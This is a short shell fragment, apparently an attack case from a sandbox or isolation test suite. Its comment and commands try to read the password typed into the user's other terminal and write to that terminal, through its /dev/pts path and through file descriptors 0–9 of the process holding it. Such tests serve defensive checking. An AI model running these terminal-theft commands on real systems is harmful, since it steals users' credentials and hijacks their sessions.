# what: read the password typed into the user's other terminal and write to its screen, by its /dev/pts path and through the process holding it
al-attack tty-steal "$AL_OTHER_TTY"
for n in 0 1 2 3 4 5 6 7 8 9; do al-attack tty-steal "/proc/$AL_OTHER_TTY_PID/fd/$n"; done
